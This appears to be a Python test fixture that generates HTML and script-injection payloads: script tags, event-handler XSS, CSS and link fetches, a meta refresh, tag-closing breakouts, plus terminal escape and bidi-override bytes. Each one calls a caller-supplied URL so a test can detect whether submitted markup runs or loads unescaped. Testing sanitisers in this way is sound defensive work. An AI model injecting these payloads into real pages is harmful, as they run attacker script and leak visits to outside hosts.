"""Markup that a student may print, send or call a file: each runs a script or fetches."""

from __future__ import annotations

MARK = "ran"
"""What a script leaves behind on the page's root: `data-ran`."""


def attacks(url: str) -> dict[str, str]:
    """By name; each asks for `<url>/<name>` where it is not shown as the text that it is."""

    def script(name: str) -> str:
        return f"document.documentElement.dataset.{MARK}='{name}';new Image().src='{url}/{name}'"

    return {
        "script": f"<script>{script('script')}</script>",
        "script-src": f"<script src='{url}/script-src'></script>",
        "handler": f'<img src=x:y onerror="{script("handler")}">',
        "svg": f'<svg onload="{script("svg")}"></svg>',
        "details": f'<details open ontoggle="{script("details")}"><summary>x</summary></details>',
        "focus": f'<input autofocus onfocus="{script("focus")}">',
        "img": f"<img src={url}/img>",
        "css": f"<style>body{{background:url({url}/css)}}</style>",
        "attribute": f'<b style="background:url({url}/attribute)">x</b>',
        "import": f"<style>@import '{url}/import';</style>",
        "stylesheet": f"<link rel=stylesheet href={url}/stylesheet>",
        "prefetch": f"<link rel=prefetch href={url}/prefetch>",
        "iframe": f"<iframe src={url}/iframe></iframe>",
        "object": f"<object data={url}/object></object>",
        "video": f"<video poster={url}/video></video>",
        "fetch": f"<script>fetch('{url}/fetch',{{mode:'no-cors'}})</script>",
        "beacon": f"<script>navigator.sendBeacon('{url}/beacon')</script>",
        "form": f"<form action={url}/form id=f></form><script>f.submit()</script>",
        "refresh": f"<meta http-equiv=refresh content='0;url={url}/refresh'>",
        "base": f"<base href={url}/><img src=base>",
        "closing": f"</title></style></textarea></pre></svg>]]>--><img src={url}/closing>",
        "quotes": f'"\'><img src={url}/quotes onload="{script("quotes")}"><a title=\'',
    }


def all_of(url: str) -> bytes:
    """All of them in one text, and what a terminal or a reader would obey besides."""
    return b"\x1b]0;x\x07\xe2\x80\xae\xff" + "\n".join(attacks(url).values()).encode()
